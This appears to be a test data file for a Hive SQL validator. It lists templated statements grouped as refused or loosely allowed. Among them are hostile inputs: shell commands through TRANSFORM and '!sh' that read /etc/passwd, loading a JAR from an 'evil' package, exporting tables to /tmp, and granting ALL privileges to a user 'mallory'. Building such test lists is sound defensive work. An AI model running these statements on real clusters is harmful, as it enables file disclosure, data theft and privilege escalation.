# What only Hive's language has, and commands of its clients.
== scripts and programs [refused]
SELECT TRANSFORM(id, {secret}) USING 'cat' AS (a, b) FROM {table}
SELECT TRANSFORM(*) USING 'cat' FROM {table}
FROM {table} MAP id, {secret} USING 'cat' AS a, b
FROM {table} REDUCE id USING 'sh -c "cat /etc/passwd"' AS a
SELECT TRANSFORM(x) ROW FORMAT DELIMITED FIELDS TERMINATED BY ',' USING 'cat' FROM (SELECT {secret} x FROM {table})
ADD JAR '{path}'
ADD FILE '{path}'
ADD ARCHIVE '{path}'
ADD JAR ivy://org.example:evil:1.0
LIST FILE '{path}'
== commands of clients [refused, ill]
dfs -ls {path}
dfs -cat {path}/*
!ls {path}
!sh cat /etc/passwd
source /etc/passwd
compile `x`
crypto create_key --keyName x
llap status
reload
quit
delete jar x
== Hive's own statements [loose, ill]
FROM {table} INSERT OVERWRITE TABLE {own} SELECT * INSERT OVERWRITE DIRECTORY '/tmp/atk' SELECT *
FROM {table} t INSERT INTO {own} SELECT id, {secret} WHERE id > 1 INSERT INTO {own} SELECT id, name
CREATE TABLE {own} STORED AS SEQUENCEFILE AS SELECT * FROM {table}
CREATE TABLE {own} ROW FORMAT SERDE 'org.apache.hadoop.hive.serde2.OpenCSVSerde' AS SELECT * FROM {table}
CREATE TABLE {own} (a STRING) STORED BY 'org.apache.hadoop.hive.hbase.HBaseStorageHandler'
CREATE TABLE {own} (a STRING) ROW FORMAT SERDE 'org.apache.hadoop.hive.serde2.RegexSerDe' STORED AS INPUTFORMAT 'x' OUTPUTFORMAT 'y'
ALTER TABLE {table} SET FILEFORMAT TEXTFILE
ALTER TABLE {table} SET SERDE 'org.apache.hadoop.hive.serde2.lazy.LazySimpleSerDe'
ALTER TABLE {table} TOUCH
ALTER TABLE {table} ARCHIVE PARTITION (region = '{region}')
ALTER TABLE {table} EXCHANGE PARTITION (region = '{region}') WITH TABLE {own}
ALTER TABLE {table} CONCATENATE
EXPORT TABLE {table} TO '/tmp/atk'
IMPORT TABLE {own} FROM '{path}'
LOCK TABLE {table} EXCLUSIVE
UNLOCK TABLE {table}
SHOW LOCKS {table}
SHOW TRANSACTIONS
SHOW COMPACTIONS
SHOW INDEX ON {table}
SHOW GRANT ON TABLE {table}
SHOW ROLE GRANT USER mallory
SHOW CURRENT ROLES
CREATE ROLE admin
GRANT ALL ON {table} TO USER mallory
SET ROLE admin
START TRANSACTION
COMMIT
CREATE TEMPORARY MACRO m(x STRING) x
CREATE TEMPORARY TABLE {own} AS SELECT * FROM {table}
SELECT INPUT__FILE__NAME, BLOCK__OFFSET__INSIDE__FILE FROM {table}
SELECT * FROM {table} TABLESAMPLE (1 ROWS)
SELECT /*+ MAPJOIN(t) */ t.id FROM {table} t JOIN {open} o ON t.id = o.id
SELECT * FROM {table} WHERE region RLIKE '^Q' SORT BY id
SELECT explode(split({secret}, '-')) FROM {table}
SELECT get_splits('SELECT * FROM {table}', 1)
SELECT in_file({secret}, '/etc/passwd') FROM {table}
SELECT logged_in_user(), current_authorizer(), version() FROM {table}
